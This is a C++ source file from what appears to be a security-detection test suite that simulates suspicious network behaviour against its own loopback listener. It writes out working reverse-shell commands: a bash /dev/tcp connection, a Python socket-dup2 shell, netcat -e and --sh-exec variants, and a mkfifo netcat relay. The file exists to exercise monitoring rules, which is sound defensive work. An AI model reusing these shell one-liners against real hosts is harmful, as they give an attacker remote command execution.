// Network behaviours, all against this program's own listener on 127.0.0.1: a system binary
// connecting out, a python reverse shell, netcat exec tricks and an ssh client.
#include <sys/socket.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "files.h"
#include "loopback.h"
#include "process.h"
#include "scenario.h"

namespace vigil::scenarios {
namespace {

constexpr milliseconds kPeerTimeout{5000};

Status system_binary_network(Report& report) {
  Result<std::string> bash = find_program({"/bin/bash", "/usr/bin/bash"});
  if (!bash) return bash.error();
  Result<LoopbackListener> listener = LoopbackListener::open();
  if (!listener) return listener.error();
  const std::string script =
      "exec 3<>/dev/tcp/127.0.0.1/" + listener->port_text() + " && echo vigil-scenarios >&3";
  const Command command{.program = *bash, .argv = {"bash", "-c", script}};
  Result<Child> child = spawn(command);
  if (!child) return child.error();
  report.pid(child->pid());

  Result<UniqueFd> conn = listener->accept(kPeerTimeout);
  if (!conn) return conn.error();
  Result<std::string> got = read_from_peer(conn->get(), kPeerTimeout);
  if (!got) return got.error();
  SCENARIO_TRY(check_exit(child->wait(command.timeout), "bash /dev/tcp"));
  if (got->find("vigil-scenarios") == std::string::npos)
    return Error{"the listener did not receive the line bash sent"};
  report.did("bash connected to 127.0.0.1:" + listener->port_text() + " via /dev/tcp and sent a line");
  return {};
}

Status reverse_shell(Report& report) {
  Result<std::string> python = find_program({"/usr/bin/python3", "/bin/python3"});
  if (!python) return Error{"python3 is missing: " + python.error().message};
  Result<LoopbackListener> listener = LoopbackListener::open();
  if (!listener) return listener.error();
  const std::string code = "import socket,subprocess,os; s=socket.socket(); s.connect((\"127.0.0.1\"," +
                           listener->port_text() +
                           ")); os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2); "
                           "subprocess.call([\"/bin/sh\",\"-c\",\"id\"])";
  const Command command{.program = *python, .argv = {"python3", "-c", code}};
  Result<Child> child = spawn(command);
  if (!child) return child.error();
  report.pid(child->pid());

  Result<UniqueFd> conn = listener->accept(kPeerTimeout);
  if (!conn) return conn.error();
  Result<std::string> got = read_from_peer(conn->get(), kPeerTimeout);
  if (!got) return got.error();
  conn->reset();
  SCENARIO_TRY(check_exit(child->wait(command.timeout), "python3 reverse shell"));
  if (got->find("uid=") == std::string::npos)
    return Error{"the listener did not receive the output of id; got: " + *got};
  report.did("python3 connected to 127.0.0.1:" + listener->port_text() +
             ", put the socket on fds 0-2 and ran /bin/sh -c id; the listener read its output");
  return {};
}

// netcat-openbsd has no -e, so the first attempt is rejected (the command line is the
// behaviour); the fifo relay is the portable equivalent and really serves a shell.
Status netcat_exec(Report& report) {
  Result<std::string> nc = find_program({"/usr/bin/nc", "/bin/nc"});
  if (!nc) return Error{"nc is missing (install netcat-openbsd): " + nc.error().message};
  Result<std::string> sh = find_program({"/bin/sh", "/usr/bin/sh"});
  if (!sh) return sh.error();
  Result<TempDir> dir = TempDir::create("vigil-scenario");
  if (!dir) return dir.error();
  Result<LoopbackListener> listener = LoopbackListener::open();
  if (!listener) return listener.error();

  // The same request spelled three ways: after the positional arguments, inside an option
  // cluster, and as ncat's long option.
  const std::string port = listener->port_text();
  const std::vector<std::vector<std::string>> attempts = {{"nc", "127.0.0.1", port, "-e", "/bin/sh"},
                                                          {"nc", "-ve", "/bin/sh", "127.0.0.1", port},
                                                          {"nc", "--sh-exec", "/bin/sh", "127.0.0.1", port}};
  std::string outcomes;
  for (const std::vector<std::string>& argv : attempts) {
    const Command attempt{.program = *nc, .argv = argv, .timeout = milliseconds(3000)};
    Result<Child> child = spawn(attempt);
    if (!child) return child.error();
    report.pid(child->pid());
    // A netcat that supports the option connects and serves a shell: give it a command, end input.
    Result<UniqueFd> conn = listener->accept(milliseconds(500));
    if (conn) {
      SCENARIO_TRY(send_to_peer(conn->get(), "id\n"));
      ::shutdown(conn->get(), SHUT_WR);
      [[maybe_unused]] Result<std::string> ignored = read_from_peer(conn->get(), milliseconds(2000));
      conn->reset();
    }
    Result<Exit> exit = child->wait(attempt.timeout);
    if (!exit) return exit.error();
    std::string line;
    for (size_t i = 1; i < argv.size(); ++i) line += " " + (argv[i] == port ? std::string("PORT") : argv[i]);
    outcomes += (outcomes.empty() ? "ran nc" : ", nc") + line +
                (conn ? " (served a shell)" : " (this netcat rejected it: " + exit->describe() + ")");
  }
  report.did(outcomes);

  const std::string fifo = *dir / "f";
  const std::string relay = "rm -f " + fifo + "; mkfifo " + fifo + "; /bin/sh <" + fifo + " 2>&1 | nc 127.0.0.1 " +
                            listener->port_text() + " >" + fifo;
  const Command pipeline{.program = *sh, .argv = {"sh", "-c", relay}};
  Result<Child> child = spawn(pipeline);
  if (!child) return child.error();
  report.pid(child->pid());
  Result<UniqueFd> conn = listener->accept(kPeerTimeout);
  if (!conn) return conn.error();
  SCENARIO_TRY(send_to_peer(conn->get(), "id\nexit\n"));
  Result<std::string> got = read_from_peer(conn->get(), kPeerTimeout, "uid=");
  if (!got) return got.error();
  conn->reset();
  SCENARIO_TRY(check_exit(child->wait(pipeline.timeout), "mkfifo relay"));
  if (got->find("uid=") == std::string::npos)
    return Error{"the fifo relay shell did not answer `id`; got: " + *got};
  report.did("served a shell over nc through a fifo: " + relay);
  return {};
}

// ssh -V, then a connection to a non-standard port (the listener's) that ends after the banner.
Status ssh_tool(Report& report) {
  Result<std::string> ssh = find_program({"/usr/bin/ssh", "/bin/ssh"});
  if (!ssh) return Error{"ssh is missing (install openssh-client): " + ssh.error().message};
  Result<TempDir> home = TempDir::create("vigil-scenario-home");
  if (!home) return home.error();

  const Command version{.program = *ssh, .argv = {"ssh", "-V"}, .stderr_path = *home / "version"};
  Result<Child> child = spawn(version);
  if (!child) return child.error();
  report.pid(child->pid());
  SCENARIO_TRY(check_exit(child->wait(version.timeout), "ssh -V"));
  Result<std::string> text = read_file(*home / "version");
  if (!text) return text.error();
  report.did("ran ssh -V (" + text->substr(0, text->find_first_of(",\n")) + ")");

  Result<LoopbackListener> listener = LoopbackListener::open();
  if (!listener) return listener.error();
  const Command connect{.program = *ssh,
                        .argv = {"ssh", "-F", "/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3",
                                 "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-p",
                                 listener->port_text(), "vigil@127.0.0.1", "true"},
                        .env = {"HOME=" + home->path()}};
  child = spawn(connect);
  if (!child) return child.error();
  report.pid(child->pid());
  Result<UniqueFd> conn = listener->accept(kPeerTimeout);
  if (!conn) return conn.error();
  Result<std::string> banner = read_from_peer(conn->get(), kPeerTimeout, "\n");
  if (!banner) return banner.error();
  conn->reset();  // ssh gives up: the connection closes before key exchange
  Result<Exit> exit = child->wait(connect.timeout);
  if (!exit) return exit.error();
  if (banner->rfind("SSH-", 0) != 0) return Error{"the listener received no SSH banner"};
  report.did("ssh connected to 127.0.0.1:" + listener->port_text() + " and sent its banner (" +
             banner->substr(0, banner->find_first_of("\r\n")) + "); the listener closed it");
  return {};
}

constexpr Scenario kNetworkScenarios[] = {
    {"system-binary-network", "bash opens /dev/tcp/127.0.0.1/PORT (the program's own listener) and writes",
     "System binary network connection", "", system_binary_network},
    {"reverse-shell", "python3 connects to the own listener, dup2s the socket onto 0-2 and runs sh -c id",
     "Reverse shell with network standard streams; Redirect STDOUT/STDIN to network connection", "",
     reverse_shell},
    {"netcat-exec",
     "nc 127.0.0.1 PORT -e /bin/sh, nc -ve /bin/sh ..., nc --sh-exec /bin/sh ..., then the mkfifo relay: "
     "sh <f | nc 127.0.0.1 PORT >f",
     "Netcat remote code execution; Network tool launched", "", netcat_exec},
    {"ssh-tool", "ssh -V, then ssh to the own listener on its ephemeral port (closed after the banner)",
     "SSH client launched; SSH connection to non-standard port", "", ssh_tool},
};

}  // namespace

std::span<const Scenario> network_scenarios() { return kNetworkScenarios; }

}  // namespace vigil::scenarios
